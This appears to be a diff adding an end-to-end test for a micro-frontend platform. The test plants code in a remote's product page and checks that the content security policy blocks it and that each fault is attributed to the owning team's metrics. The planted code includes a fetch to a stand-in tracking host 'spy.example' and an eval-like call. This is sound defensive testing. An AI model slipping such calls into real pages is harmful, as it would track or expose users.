@@ -1,0 +1,69 @@
+import type { OutcomeFigures } from '@synapsei/shared-types';
+import { origins } from '../../core/origins';
+import { ReleasedRemote } from '../../core/ReleasedRemote';
+import { expect, test } from '../../core/test';
+
+const version = '6.1.0';
+const label = `mf_content@${version}`;
+
+/** Code that calls home, evaluates text and throws in a timer, in the page of the products alone. */
+const planted = (source: string, file: string) =>
+  file.includes('_ProductListPage') && file.endsWith('.js')
+    ? `fetch('https://spy.example/visitors').catch(() => {});
+       try { new Function('return 1')(); } catch {}
+       setTimeout(() => { throw new Error('planted in a timer'); });
+       ${source}`
+    : source;
+
+test.use({
+  expectedViolations: [
+    'connect-src blocked https://spy.example/visitors',
+    'script-src blocked eval',
+  ],
+});
+
+test('what the policy stops and what nobody catches is told and counted for the team whose code it is', async ({
+  page,
+  site,
+  faults,
+}) => {
+  const remote = await ReleasedRemote.of(page, 'mf-content');
+  await remote.add(version, planted);
+  await remote.release({ stable: version });
+  await page.goto('/?remotes#/products');
+  await expect(site.heading).toHaveText('Products we build ourselves');
+  const told = [
+    'policy-violation: connect-src blocked https://spy.example',
+    'policy-violation: script-src blocked eval',
+    'uncaught: Error: planted in a timer',
+  ];
+  const panel = page.getByRole('dialog', { name: 'Remotes on this page' });
+  for (const fault of told) {
+    await expect(panel.getByRole('listitem').filter({ hasText: fault })).toContainText(
+      `${label} (team content)`,
+    );
+    expect(faults.console.join('\n')).toContain(
+      `[remotes] ${label} (team content, #team-content): ${fault}`,
+    );
+  }
+
+  // What is counted goes with the page.
+  await page.goto('about:blank');
+  const read = async (path: string) => (await page.request.get(origins.collector + path)).text();
+  const figures = async () =>
+    JSON.parse(await read(`/v1/outcomes?remote=mf_content&version=${version}`)) as OutcomeFigures;
+  await expect
+    .poll(figures)
+    .toMatchObject({ uncaught: 1, violations: 2, samples: 1, failureRate: 0 });
+  const own = await read('/metrics?team=content');
+  const series = `remote="mf_content",version="${version}",team="content",source="registry"`;
+  for (const directive of ['connect-src', 'script-src']) {
+    expect(own).toContain(
+      `{${series},outcome="policy-violation",kind="",directive="${directive}"} 1`,
+    );
+  }
+  expect(own).toContain(`{${series},outcome="uncaught",kind="",directive=""} 1`);
+  expect(own).not.toContain('team="chat"');
+  expect(await read('/metrics?team=chat')).not.toContain('mf_content');
+  expect(await read('/metrics')).not.toContain('spy.example');
+});
